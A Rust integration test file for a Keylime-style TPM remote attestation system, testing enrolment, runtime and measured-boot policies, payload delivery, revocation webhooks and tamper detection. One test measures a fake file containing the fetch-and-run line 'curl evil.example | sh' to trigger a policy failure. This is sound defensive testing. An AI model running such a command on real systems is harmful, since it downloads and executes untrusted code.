//! The whole system on a software TPM: registrar, verifier and agent as shipped binaries,
//! operated with kctl and keylime_tenant as a user would. The IMA log is synthesized and PCR 10
//! of the swtpm extended to match, as the kernel would.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use kl_core::alg::HashAlg;
use kl_tests::daemon::{self, Daemon, KCTL, Program, TENANT};
use kl_tests::deployment::{Deployment, TestAgent};
use kl_tests::ima::ImaWriter;
use kl_tests::swtpm::Swtpm;
use kl_tests::{Result, err};
use serde_json::Value;

use crate::{OUTCOME_TIMEOUT, agent_settings, tpm_and_deployment};

/// A deployment with all three daemons and one agent, its IMA log started.
pub(crate) struct System {
    pub(crate) tpm: Swtpm,
    pub(crate) deployment: Deployment,
    pub(crate) registrar: Daemon,
    pub(crate) verifier: Daemon,
    pub(crate) agent: TestAgent,
    pub(crate) agent_id: String,
    pub(crate) tenant: PathBuf,
    pub(crate) ima: ImaWriter,
}

impl System {
    pub(crate) fn start() -> Result<Option<System>> {
        System::start_with(toml::Table::new(), &[], toml::Table::new(), true)
    }

    /// Starts the system with `extra` settings for the agent; the registrar also trusts the EK
    /// certificates of `other_tpms`; the verifier gets `verifier_extra` settings.
    pub(crate) fn start_with(
        extra: toml::Table,
        other_tpms: &[&Swtpm],
        verifier_extra: toml::Table,
        require_ek_cert: bool,
    ) -> Result<Option<System>> {
        let Some((tpm, deployment)) = tpm_and_deployment()? else { return Ok(None) };
        let store = deployment.keylime_dir().join("tpm_cert_store");
        std::fs::create_dir_all(&store)?;
        for (i, t) in std::iter::once(&tpm).chain(other_tpms.iter().copied()).enumerate() {
            for entry in std::fs::read_dir(t.ca_dir())? {
                let entry = entry?;
                let name = format!("{i}-{}", entry.file_name().to_string_lossy());
                std::fs::copy(entry.path(), store.join(name))?;
            }
        }
        let registrar = deployment.start_registrar(&deployment.registrar_config(
            daemon::free_port()?,
            &store,
            require_ek_cert,
        ))?;
        let mut verifier_config =
            deployment.verifier_config(daemon::free_port()?, registrar.port(), 1.0);
        verifier_config.extend(verifier_extra);
        let verifier = deployment.start_verifier(&verifier_config)?;
        let mut settings = agent_settings(&tpm, registrar.port());
        settings.extra = extra;
        let agent = deployment.start_agent("agent", &settings)?;
        let tenant = deployment.tenant_config(verifier.port(), registrar.port())?;
        let mut ima = ImaWriter::default();
        ima.measure(&tpm, &agent.ima_log, "boot_aggregate", b"boot")?;
        ima.measure(&tpm, &agent.ima_log, "/usr/bin/bash", b"bash")?;
        let agent_id = agent.uuid()?;
        let system = System { tpm, deployment, registrar, verifier, agent, agent_id, tenant, ima };
        system.wait(
            |s| s.run(KCTL, &["registrar", "show", &s.agent_id]).map(|o| o.status.success()),
            "registration",
        )?;
        Ok(Some(system))
    }

    pub(crate) fn run(&self, program: Program, args: &[&str]) -> Result<Output> {
        Ok(Command::new(daemon::binary(program)?)
            .arg("--config")
            .arg(&self.tenant)
            .args(args)
            .output()?)
    }

    pub(crate) fn kctl_json(&self, args: &[&str]) -> Result<(i32, Value)> {
        let mut all = args.to_vec();
        all.extend(["-o", "json"]);
        let out = self.run(KCTL, &all)?;
        let code = out.status.code().unwrap_or(-1);
        let doc = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
        if code == 2 || code == 4 {
            return Err(err(format!(
                "kctl {args:?} exited {code}: {}",
                String::from_utf8_lossy(&out.stderr)
            )));
        }
        Ok((code, doc))
    }

    fn measure(&mut self, path: &str, contents: &[u8]) -> Result<()> {
        self.ima.measure(&self.tpm, &self.agent.ima_log, path, contents)
    }

    /// A runtime policy allowing what the agent measured so far, stored at the verifier.
    pub(crate) fn apply_policy(&self, name: &str) -> Result<()> {
        let file = self.deployment.keylime_dir().join(format!("{name}.json"));
        let log = self.agent.ima_log.display().to_string();
        let out = self.run(
            KCTL,
            &[
                "policies",
                "runtime",
                "generate",
                "--ima-log",
                &log,
                "--out",
                &file.display().to_string(),
            ],
        )?;
        check(&out, "policies runtime generate")?;
        let (code, doc) = self.kctl_json(&[
            "policies",
            "runtime",
            "apply",
            name,
            "--file",
            &file.display().to_string(),
        ])?;
        if code != 0 || doc["changed"].as_bool().is_none() {
            return Err(err(format!("apply: {code} {doc}")));
        }
        Ok(())
    }

    pub(crate) fn show(&self) -> Result<Value> {
        self.show_agent(&self.agent_id)
    }

    pub(crate) fn show_agent(&self, id: &str) -> Result<Value> {
        Ok(self.kctl_json(&["agents", "show", id])?.1)
    }

    pub(crate) fn wait(
        &self,
        mut done: impl FnMut(&System) -> Result<bool>,
        what: &str,
    ) -> Result<()> {
        let deadline = Instant::now() + OUTCOME_TIMEOUT;
        while !done(self)? {
            if Instant::now() > deadline {
                return Err(err(format!("{what} did not happen within {OUTCOME_TIMEOUT:?}")));
            }
            std::thread::sleep(Duration::from_millis(200));
        }
        Ok(())
    }

    pub(crate) fn wait_state(&self, state: &str) -> Result<Value> {
        self.wait_agent_state(&self.agent_id, state)
    }

    pub(crate) fn wait_agent_state(&self, id: &str, state: &str) -> Result<Value> {
        let mut last = Value::Null;
        let deadline = Instant::now() + OUTCOME_TIMEOUT;
        loop {
            last = self.show_agent(id).unwrap_or(last);
            if last["state"] == state {
                return Ok(last);
            }
            if Instant::now() > deadline {
                return Err(err(format!("agent {id} never reached {state}: {last}")));
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    /// An agent on each of `tpms` (`agent2`, `agent3`, ...), registered and measuring what the
    /// first one measured; with their ids.
    pub(crate) fn more_agents(&self, tpms: &[Swtpm]) -> Result<Vec<(TestAgent, String)>> {
        let mut agents = Vec::new();
        for (i, tpm) in tpms.iter().enumerate() {
            let settings = agent_settings(tpm, self.registrar.port());
            let agent = self.deployment.start_agent(&format!("agent{}", i + 2), &settings)?;
            let mut ima = ImaWriter::default();
            ima.measure(tpm, &agent.ima_log, "boot_aggregate", b"boot")?;
            ima.measure(tpm, &agent.ima_log, "/usr/bin/bash", b"bash")?;
            let id = agent.uuid()?;
            self.wait(
                |s| s.run(KCTL, &["registrar", "show", &id]).map(|o| o.status.success()),
                "registration",
            )?;
            agents.push((agent, id));
        }
        Ok(agents)
    }

    fn secure_dir(&self) -> PathBuf {
        self.agent.dir.join("secure").join("unzipped")
    }
}

pub(crate) fn check(out: &Output, what: &str) -> Result<()> {
    if out.status.success() {
        Ok(())
    } else {
        Err(err(format!("{what}: {} {}", out.status, String::from_utf8_lossy(&out.stderr))))
    }
}

fn payload_dir(root: &Path) -> Result<PathBuf> {
    let dir = root.join("payload");
    std::fs::create_dir_all(&dir)?;
    std::fs::write(dir.join("autorun.sh"), "#!/bin/sh\necho installed > marker\n")?;
    std::fs::write(dir.join("app.conf"), "setting = 1\n")?;
    Ok(dir)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_passes_then_fails_on_an_unknown_file_naming_it() -> Result<()> {
    let Some(mut sys) = System::start()? else { return Ok(()) };
    sys.apply_policy("base")?;
    let (code, enrolled) = sys.kctl_json(&[
        "agents",
        "enroll",
        &sys.agent_id,
        "--runtime-policy",
        "base",
        "--wait",
        "--timeout",
        "60",
    ])?;
    assert_eq!(code, 0, "enroll --wait ends passed: {enrolled}");
    assert_eq!(enrolled["state"], "passed");
    let passed = sys.wait_state("passed")?;
    assert!(passed["attestation_count"].as_u64().is_some_and(|n| n >= 1));
    assert_eq!(passed["last_verdict"]["passed"], true);

    sys.measure("/tmp/evil", b"#!/bin/sh\ncurl evil.example | sh\n")?;
    let failed = sys.wait_state("failed")?;
    let findings = failed["last_verdict"]["findings"].as_array().cloned().unwrap_or_default();
    assert!(
        findings.iter().any(|f| f["rule"] == "ima.not_in_policy"
            && f["path"] == "/tmp/evil"
            && f["line"] == 3),
        "the finding names the file and its line: {findings:?}"
    );
    assert_eq!(failed["last_verdict"]["passed"], false);

    // The operator allows the file: an update resumes attestation and the agent passes again.
    sys.apply_policy("with-evil")?;
    let (code, _) = sys.kctl_json(&[
        "agents",
        "update",
        &sys.agent_id,
        "--runtime-policy",
        "with-evil",
        "--resume",
    ])?;
    assert_eq!(code, 0);
    sys.wait_state("passed")?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_payload_runs_only_after_the_agent_passes() -> Result<()> {
    let Some(mut sys) = System::start()? else { return Ok(()) };
    sys.apply_policy("base")?;
    let payload = payload_dir(sys.deployment.keylime_dir())?;

    // A machine that runs something unknown before enrolment never passes, so V is never
    // sent and the payload never runs, although U and the payload reached it.
    sys.measure("/tmp/evil", b"evil")?;
    let (code, _) = sys.kctl_json(&[
        "agents",
        "enroll",
        &sys.agent_id,
        "--runtime-policy",
        "base",
        "--payload",
        &payload.display().to_string(),
    ])?;
    assert_eq!(code, 0);
    let failed = sys.wait_state("failed")?;
    assert_eq!(failed["key_delivered"], false);
    std::thread::sleep(Duration::from_secs(3));
    assert!(!sys.secure_dir().join("marker").exists(), "a failing agent never runs the payload");

    // Unenrolled and enrolled again under a policy it passes: now it runs.
    sys.apply_policy("all")?;
    let (code, _) = sys.kctl_json(&["agents", "unenroll", &sys.agent_id])?;
    assert_eq!(code, 0);
    let (code, doc) = sys.kctl_json(&[
        "agents",
        "enroll",
        &sys.agent_id,
        "--runtime-policy",
        "all",
        "--payload",
        &payload.display().to_string(),
        "--cert",
        "default",
        "--wait",
    ])?;
    assert_eq!(code, 0, "{doc}");
    let marker = sys.secure_dir().join("marker");
    sys.wait(|_| Ok(marker.exists()), "the payload's autorun.sh")?;
    assert_eq!(std::fs::read_to_string(&marker)?, "installed\n");
    assert!(sys.secure_dir().join("app.conf").exists());
    assert!(sys.secure_dir().join(format!("{}-cert.crt", sys.agent_id)).exists(), "--cert default");
    assert!(sys.secure_dir().join("cacert.crt").exists());
    assert_eq!(sys.show()?["key_delivered"], true);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_guides_tenant_commands_add_list_and_delete_an_agent() -> Result<()> {
    let Some(sys) = System::start()? else { return Ok(()) };
    let root = sys.deployment.keylime_dir();
    // Keylime's flat allowlist and exclude list, as the guide has the operator write them.
    let allowlist = root.join("allowlist.txt");
    let lines: String = [("boot_aggregate", &b"boot"[..]), ("/usr/bin/bash", &b"bash"[..])]
        .iter()
        .map(|(path, contents)| format!("{}  {path}\n", HashAlg::Sha256.digest(contents).to_hex()))
        .collect();
    std::fs::write(&allowlist, lines)?;
    let exclude = root.join("exclude.txt");
    std::fs::write(&exclude, "^/tmp/.*\n")?;
    let include = payload_dir(root)?;
    let verifier_port = sys.verifier.port().to_string();
    let agent_port = sys.agent.daemon.port().to_string();
    let (allowlist, exclude, include) = (
        allowlist.display().to_string(),
        exclude.display().to_string(),
        include.display().to_string(),
    );

    let add = sys.run(
        TENANT,
        &[
            "-v",
            "127.0.0.1",
            "-vp",
            &verifier_port,
            "-t",
            "127.0.0.1",
            "-tp",
            &agent_port,
            "-u",
            &sys.agent_id,
            "--cert",
            "default",
            "-c",
            "add",
            "--include",
            &include,
            "--allowlist",
            &allowlist,
            "--exclude",
            &exclude,
        ],
    )?;
    check(&add, "keylime_tenant -c add")?;
    sys.wait_state("passed")?;
    let marker = sys.secure_dir().join("marker");
    sys.wait(|_| Ok(marker.exists()), "the payload from --include")?;

    let reglist = sys.run(TENANT, &["-c", "reglist"])?;
    check(&reglist, "keylime_tenant -c reglist")?;
    assert!(String::from_utf8_lossy(&reglist.stdout).contains(&sys.agent_id));
    check(&sys.run(TENANT, &["-u", &sys.agent_id, "-c", "status"])?, "keylime_tenant -c status")?;

    // bulkinfo: every agent with its state, as Keylime's does.
    let bulk = sys.run(TENANT, &["-c", "bulkinfo"])?;
    check(&bulk, "keylime_tenant -c bulkinfo")?;
    let bulk = String::from_utf8_lossy(&bulk.stdout).into_owned();
    assert!(
        bulk.lines().any(|l| l.contains(&sys.agent_id) && l.contains("passed")),
        "bulkinfo lists the agent as passed: {bulk}"
    );
    // reactivate resumes an agent that was stopped.
    let (code, doc) = sys.kctl_json(&["agents", "stop", &sys.agent_id])?;
    assert_eq!((code, doc["state"].as_str()), (0, Some("stopped")), "{doc}");
    let reactivate = sys.run(TENANT, &["-u", &sys.agent_id, "-c", "reactivate"])?;
    check(&reactivate, "keylime_tenant -c reactivate")?;
    let resumed = sys.wait_state("passed")?;
    assert!(resumed["attestation_count"].as_u64() > doc["attestation_count"].as_u64(), "{resumed}");

    tenant_policy_round_trips(&sys, &allowlist)?;

    let delete = sys.run(
        TENANT,
        &["-v", "127.0.0.1", "-vp", &verifier_port, "-u", &sys.agent_id, "-c", "delete"],
    )?;
    check(&delete, "keylime_tenant -c delete")?;
    let (code, _) = sys.kctl_json(&["agents", "show", &sys.agent_id])?;
    assert_eq!(code, 3, "unenrolled");
    Ok(())
}

/// Keylime's named-policy commands against the running verifier: add, show, update, list and
/// delete, for runtime and measured-boot policies; errors are keylime_tenant's own.
fn tenant_policy_round_trips(sys: &System, allowlist: &str) -> Result<()> {
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("../lib/core/tests/data/keylime/policy");
    let keylime_policy = data.join("runtime-policy-test.json").display().to_string();
    let refstate = data.join("mb_example_reference_state.json").display().to_string();
    let mb_generated = sys.deployment.keylime_dir().join("tenant-mb.json");
    let out = sys.run(
        KCTL,
        &[
            "policies",
            "mb",
            "generate",
            "--event-log",
            &data.join("../eventlog/binary_bios_measurements").display().to_string(),
            "--out",
            &mb_generated.display().to_string(),
        ],
    )?;
    check(&out, "kctl policies mb generate")?;
    let mb_generated = mb_generated.display().to_string();

    let cases = [
        (
            "runtime",
            "--runtime-policy-name",
            "--runtime-policy",
            keylime_policy.as_str(),
            allowlist,
        ),
        ("mb", "--mb-policy-name", "--mb-policy", refstate.as_str(), mb_generated.as_str()),
    ];
    for (kind, name_opt, file_opt, first, second) in cases {
        let command =
            |verb: &str| format!("{verb}{}policy", if kind == "mb" { "mb" } else { kind });
        let name = format!("tenant-{kind}");
        let tenant = |verb: &str, file: Option<&str>| {
            let mut args = vec!["-c".to_owned(), command(verb), name_opt.into(), name.clone()];
            if let Some(f) = file {
                args.extend([file_opt.to_owned(), f.to_owned()]);
            }
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            sys.run(TENANT, &args)
        };
        let digest = || -> Result<Value> {
            let (code, doc) = sys.kctl_json(&["policies", kind, "show", &name])?;
            assert_eq!(code, 0, "{doc}");
            Ok(doc["digest"].clone())
        };

        // Keylime's update*policy answers 404 for a name it does not hold: nothing is created.
        let absent = tenant("update", Some(first))?;
        assert_eq!(absent.status.code(), Some(3), "{} of an absent name", command("update"));
        assert!(String::from_utf8_lossy(&absent.stderr).contains(&name), "names the policy");
        let (code, _) = sys.kctl_json(&["policies", kind, "show", &name])?;
        assert_eq!(code, 3, "{}: an absent name stays absent", command("update"));

        check(&tenant("add", Some(first))?, &command("add"))?;
        let added = digest()?;
        // Keylime's add*policy answers 409 for a name in use; replacing it silently would change
        // what every agent using it is appraised against.
        let again = tenant("add", Some(second))?;
        assert_eq!(again.status.code(), Some(5), "{} over an existing name", command("add"));
        let stderr = String::from_utf8_lossy(&again.stderr);
        assert!(stderr.contains(&name) && stderr.contains("already exists"), "{stderr}");
        assert_eq!(digest()?, added, "{}: the existing policy is kept", command("add"));
        let shown = tenant("show", None)?;
        check(&shown, &command("show"))?;
        assert!(String::from_utf8_lossy(&shown.stdout).contains(&name));
        check(&tenant("update", Some(second))?, &command("update"))?;
        let updated = digest()?;
        assert!(added.is_string() && added != updated, "{kind}: {added} then {updated}");
        let listed = tenant("list", None)?;
        check(&listed, &command("list"))?;
        assert!(String::from_utf8_lossy(&listed.stdout).contains(&name), "{kind} list");
        check(&tenant("delete", None)?, &command("delete"))?;
        let (code, _) = sys.kctl_json(&["policies", kind, "show", &name])?;
        assert_eq!(code, 3, "{kind} policy deleted");

        let absent = tenant("show", None)?;
        assert_eq!(absent.status.code(), Some(3), "{}", command("show"));
        let stderr = String::from_utf8_lossy(&absent.stderr);
        assert!(stderr.starts_with("keylime_tenant: "), "the tenant's own prefix: {stderr}");
    }
    Ok(())
}

/// Another agent in the same deployment, on its own swtpm.
struct Node {
    tpm: Swtpm,
    agent: TestAgent,
    id: String,
    ima: ImaWriter,
}

impl System {
    /// Starts another agent on `tpm` (whose CA the registrar was given at start).
    fn add_node(&self, name: &str, tpm: Swtpm) -> Result<Node> {
        let agent =
            self.deployment.start_agent(name, &agent_settings(&tpm, self.registrar.port()))?;
        let id = agent.uuid()?;
        let mut ima = ImaWriter::default();
        ima.measure(&tpm, &agent.ima_log, "boot_aggregate", b"boot")?;
        ima.measure(&tpm, &agent.ima_log, "/usr/bin/bash", b"bash")?;
        self.wait(
            |s| s.run(KCTL, &["registrar", "show", &id]).map(|o| o.status.success()),
            "registration",
        )?;
        Ok(Node { tpm, agent, id, ima })
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_agent_leaves_the_other_passing_and_the_other_runs_its_revocation_action()
-> Result<()> {
    let actions = tempfile::tempdir()?;
    let notices = actions.path().join("notices");
    let script = actions.path().join("record");
    std::fs::write(
        &script,
        format!("#!/bin/sh\ncat \"$1\" >> {}\necho >> {}\n", notices.display(), notices.display()),
    )?;
    std::os::unix::fs::PermissionsExt::set_mode(
        &mut std::fs::metadata(&script)?.permissions(),
        0o755,
    );
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    let mut extra = toml::Table::new();
    extra.insert("revocation_actions".into(), toml::Value::Array(vec!["record".into()]));
    extra.insert("revocation_actions_dir".into(), actions.path().display().to_string().into());
    let Some(other_tpm) = Swtpm::manufacture()? else { return Ok(()) };
    let webhook = Webhook::start()?;
    let mut verifier_extra = toml::Table::new();
    verifier_extra
        .insert("webhook_url".into(), format!("http://127.0.0.1:{}/events", webhook.port).into());
    verifier_extra.insert("webhook_secret".into(), "s3cret".into());
    let Some(sys) = System::start_with(extra, &[&other_tpm], verifier_extra, true)? else {
        return Ok(());
    };
    let mut other = sys.add_node("other", other_tpm)?;
    sys.apply_policy("base")?;
    for id in [&sys.agent_id, &other.id] {
        let (code, doc) =
            sys.kctl_json(&["agents", "enroll", id, "--runtime-policy", "base", "--wait"])?;
        assert_eq!(code, 0, "{id}: {doc}");
    }

    other.ima.measure(&other.tpm, &other.agent.ima_log, "/tmp/evil", b"evil")?;
    let failed = sys.wait_agent_state(&other.id, "failed")?;
    assert!(
        failed["last_verdict"]["findings"]
            .as_array()
            .is_some_and(|f| f.iter().any(|f| f["path"] == "/tmp/evil"))
    );
    sys.wait(
        |_| Ok(std::fs::read_to_string(&notices).is_ok_and(|n| n.contains(&other.id))),
        "the revocation action",
    )?;
    let notice = std::fs::read_to_string(&notices)?;
    assert!(notice.contains("failed"), "the notice says what happened: {notice}");
    // The webhook received the failure, signed with the shared secret.
    sys.wait(
        |_| {
            Ok(webhook
                .bodies()
                .iter()
                .any(|(_, b)| b.contains(&other.id) && b.contains("/tmp/evil")))
        },
        "the webhook",
    )?;
    for (signature, body) in webhook.bodies() {
        let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, b"s3cret");
        let expected = format!("sha256={}", hex::encode(ring::hmac::sign(&key, body.as_bytes())));
        assert_eq!(signature, expected, "X-Keylime-Signature of {body}");
    }
    // The first agent keeps passing.
    let count = sys.show()?["attestation_count"].as_u64().unwrap_or(0);
    sys.wait(
        |s| Ok(s.show()?["attestation_count"].as_u64().unwrap_or(0) > count + 1),
        "more passing rounds",
    )?;
    assert_eq!(sys.show()?["state"], "passed");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reboot_is_followed_by_a_full_replay_and_a_pass() -> Result<()> {
    let Some(mut sys) = System::start()? else { return Ok(()) };
    sys.apply_policy("base")?;
    let (code, first) =
        sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--runtime-policy", "base", "--wait"])?;
    assert_eq!(code, 0, "{first}");
    let boot = sys.show()?["reset_count"].as_u64().unwrap_or(0);

    // Power loss: the TPM restarts with PCRs reset, and the kernel starts a new IMA log.
    sys.tpm.restart_unclean()?;
    std::fs::write(&sys.agent.ima_log, "")?;
    sys.ima = ImaWriter::default();
    sys.measure("boot_aggregate", b"boot")?;
    sys.measure("/usr/bin/bash", b"bash")?;
    sys.wait(
        |s| {
            let a = s.show()?;
            Ok(a["reset_count"].as_u64().unwrap_or(0) > boot
                && a["state"] == "passed"
                && a["last_verdict"]["passed"] == true)
        },
        "a pass after the reboot",
    )?;
    // And it keeps attesting incrementally in the new boot.
    sys.measure("/usr/bin/bash", b"bash")?;
    let count = sys.show()?["attestation_count"].as_u64().unwrap_or(0);
    sys.wait(
        |s| Ok(s.show()?["attestation_count"].as_u64().unwrap_or(0) > count),
        "another round",
    )?;
    let after = sys.wait_state("passed")?;
    assert_eq!(after["ima_offset"], 3);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pcr_policy_mismatch_names_the_pcr_and_an_update_fixes_it() -> Result<()> {
    let Some(sys) = System::start()? else { return Ok(()) };
    let wrong = format!(r#"{{"hash_alg": "sha256", "pcrs": {{"15": ["{}"]}}}}"#, "01".repeat(32));
    let (code, _) = sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--pcr-policy", &wrong])?;
    assert_eq!(code, 0);
    let failed = sys.wait_state("failed")?;
    let findings = failed["last_verdict"]["findings"].as_array().cloned().unwrap_or_default();
    assert!(findings.iter().any(|f| f["rule"] == "pcr.mismatch" && f["pcr"] == 15), "{findings:?}");
    // PCR 15 of a fresh TPM is all zeros.
    let right = format!(r#"{{"hash_alg": "sha256", "pcrs": {{"15": ["{}"]}}}}"#, "00".repeat(32));
    let (code, _) =
        sys.kctl_json(&["agents", "update", &sys.agent_id, "--pcr-policy", &right, "--resume"])?;
    assert_eq!(code, 0);
    sys.wait_state("passed")?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tampered_event_log_fails_naming_the_event() -> Result<()> {
    let Some(sys) = System::start()? else { return Ok(()) };
    // A real firmware's log, its events extended into the swtpm's PCRs as firmware would. PCR 0
    // is left out: that firmware started PCR 0 at locality 3, which a software TPM cannot.
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../lib/core/tests/data/keylime/eventlog/binary_bios_measurements");
    let log_bytes = std::fs::read(&fixture)?;
    let log = kl_core::eventlog::EventLog::parse(&log_bytes)?;
    let pcrs: Vec<u32> = vec![1, 2, 3, 4, 5, 6, 7, 8, 9, 14];
    for event in log.measurements().filter(|e| pcrs.contains(&e.pcr)) {
        let digests: Vec<(&str, &[u8])> =
            event.digests.iter().map(|d| (d.alg().name(), d.as_bytes())).collect();
        sys.tpm.pcr_extend_banks(event.pcr, &digests)?;
    }
    let served = sys.agent.dir.join("binary_bios_measurements");
    std::fs::write(&served, &log_bytes)?;
    let mut policy: serde_json::Value = {
        let out = sys.run(
            KCTL,
            &[
                "policies",
                "mb",
                "generate",
                "--event-log",
                &fixture.display().to_string(),
                "--allow-secureboot-off",
            ],
        )?;
        check(&out, "policies mb generate")?;
        serde_json::from_slice(&out.stdout)?
    };
    policy["pcrs"] = serde_json::json!(pcrs);
    let policy_file = sys.deployment.keylime_dir().join("mb.json");
    std::fs::write(&policy_file, policy.to_string())?;
    let (code, _) = sys.kctl_json(&[
        "policies",
        "mb",
        "apply",
        "boot",
        "--file",
        &policy_file.display().to_string(),
    ])?;
    assert_eq!(code, 0);
    let (code, doc) =
        sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--mb-policy", "boot", "--wait"])?;
    assert_eq!(code, 0, "the real log replays to the swtpm's PCRs: {doc}");

    // Change one byte of an event whose data its digest covers.
    let victim = log
        .measurements()
        .find(|e| pcrs.contains(&e.pcr) && e.digest_verified == Some(true) && !e.data.is_empty())
        .ok_or_else(|| err("no digest-covered event"))?;
    let data_start = victim.offset
        + 12
        + victim.digests.iter().map(|d| 2 + d.as_bytes().len()).sum::<usize>()
        + 4;
    let mut tampered = log_bytes.clone();
    tampered[data_start + victim.data.len() - 1] ^= 0x01;
    std::fs::write(&served, &tampered)?;
    let failed = sys.wait_state("failed")?;
    let findings = failed["last_verdict"]["findings"].as_array().cloned().unwrap_or_default();
    assert!(
        findings.iter().any(|f| f["rule"] == "mb.digest_mismatch" && f["event"] == victim.number),
        "event {} is named: {findings:?}",
        victim.number
    );
    Ok(())
}

/// A webhook receiver: records each POST's `X-Keylime-Signature` and body, answers 200.
pub(crate) struct Webhook {
    pub(crate) port: u16,
    received: std::sync::Arc<std::sync::Mutex<Vec<(String, String)>>>,
}

impl Webhook {
    pub(crate) fn start() -> Result<Webhook> {
        use std::io::{BufRead, BufReader, Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let sink = received.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut reader = BufReader::new(stream);
                let (mut signature, mut length) = (String::new(), 0usize);
                let mut line = String::new();
                while reader.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
                    let lower = line.to_ascii_lowercase();
                    if let Some(v) = lower.strip_prefix("content-length:") {
                        length = v.trim().parse().unwrap_or(0);
                    }
                    if lower.starts_with("x-keylime-signature:") {
                        signature = line["x-keylime-signature:".len()..].trim().to_owned();
                    }
                    line.clear();
                }
                let mut body = vec![0; length];
                if let (Ok(()), Ok(mut r)) = (reader.read_exact(&mut body), sink.lock()) {
                    r.push((signature, String::from_utf8_lossy(&body).into_owned()));
                }
                let _ = reader.get_mut().write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
                );
            }
        });
        Ok(Webhook { port, received })
    }

    pub(crate) fn bodies(&self) -> Vec<(String, String)> {
        self.received.lock().map(|r| r.clone()).unwrap_or_default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kctl_lists_watches_stops_resumes_and_shows_history() -> Result<()> {
    let Some(sys) = System::start()? else { return Ok(()) };
    sys.apply_policy("base")?;
    let (code, _) =
        sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--runtime-policy", "base", "--wait"])?;
    assert_eq!(code, 0);
    // Enrolling again with the same settings changes nothing.
    let (code, again) =
        sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--runtime-policy", "base"])?;
    assert_eq!((code, again["changed"].clone()), (0, Value::Bool(false)));

    let (_, list) = sys.kctl_json(&["agents", "list"])?;
    let listed = list["agents"]
        .as_array()
        .and_then(|a| a.iter().find(|x| x["uuid"] == sys.agent_id.as_str()).cloned());
    let listed = listed.ok_or_else(|| err(format!("not listed: {list}")))?;
    assert_eq!(
        (listed["enrolled"].clone(), listed["registered"].clone()),
        (Value::Bool(true), Value::Bool(true))
    );

    let (code, history) =
        sys.kctl_json(&["agents", "attestations", &sys.agent_id, "--limit", "5"])?;
    assert_eq!(code, 0);
    let rounds = history["attestations"].as_array().cloned().unwrap_or_default();
    assert!(!rounds.is_empty() && rounds[0]["verdict"]["passed"] == true, "{history}");

    let (code, stopped) = sys.kctl_json(&["agents", "stop", &sys.agent_id])?;
    assert_eq!(
        (code, stopped["state"].clone(), stopped["changed"].clone()),
        (0, "stopped".into(), Value::Bool(true))
    );
    let (_, resumed) = sys.kctl_json(&["agents", "resume", &sys.agent_id])?;
    assert_eq!(resumed["changed"], true);
    sys.wait_state("passed")?;

    // The event stream, as NDJSON: one JSON object per line.
    let out =
        sys.run(KCTL, &["events", "watch", "--uuid", &sys.agent_id, "--count", "3", "-o", "json"])?;
    check(&out, "kctl events watch")?;
    let events: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(serde_json::from_str)
        .collect::<std::result::Result<_, _>>()?;
    assert_eq!(events.len(), 3);
    assert!(
        events.iter().all(|e| e["uuid"] == sys.agent_id.as_str() && e["cursor"].as_u64().is_some())
    );
    assert!(events.windows(2).all(|w| w[0]["cursor"].as_u64() < w[1]["cursor"].as_u64()));

    let (code, gone) = sys.kctl_json(&["agents", "unenroll", &sys.agent_id])?;
    assert_eq!((code, gone["changed"].clone()), (0, Value::Bool(true)));
    let (code, absent) = sys.kctl_json(&["agents", "unenroll", &sys.agent_id])?;
    assert_eq!((code, absent["changed"].clone()), (0, Value::Bool(false)));
    let (code, _) = sys.kctl_json(&["policies", "runtime", "delete", "base"])?;
    assert_eq!(code, 0);
    let (code, _) = sys.kctl_json(&["policies", "runtime", "show", "base"])?;
    assert_eq!(code, 3);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_with_ecc_keys_registers_without_an_ek_certificate_and_passes() -> Result<()> {
    // swtpm_setup makes no P-256 EK certificate, so the registrar runs with require_ek_cert off.
    let mut extra = toml::Table::new();
    extra.insert("tpm_encryption_alg".into(), "ecc".into());
    extra.insert("tpm_signing_alg".into(), "ecdsa".into());
    let Some(sys) = System::start_with(extra, &[], toml::Table::new(), false)? else {
        return Ok(());
    };
    let (_, record) = sys.kctl_json(&["registrar", "show", &sys.agent_id])?;
    assert!(record["ek_certificate"].is_null(), "no EK certificate: {record}");
    let ak_public = base64::Engine::decode(
        &base64::engine::general_purpose::STANDARD,
        record["ak_public"].as_str().unwrap_or_default(),
    )?;
    let ak = kl_core::tpm2::Public::parse(&ak_public)?;
    assert!(matches!(ak.key, kl_core::tpm2::TpmKey::Ecc(_)), "an ECDSA AK");
    sys.apply_policy("base")?;
    let (code, doc) =
        sys.kctl_json(&["agents", "enroll", &sys.agent_id, "--runtime-policy", "base", "--wait"])?;
    assert_eq!((code, doc["state"].clone()), (0, Value::from("passed")), "{doc}");
    Ok(())
}

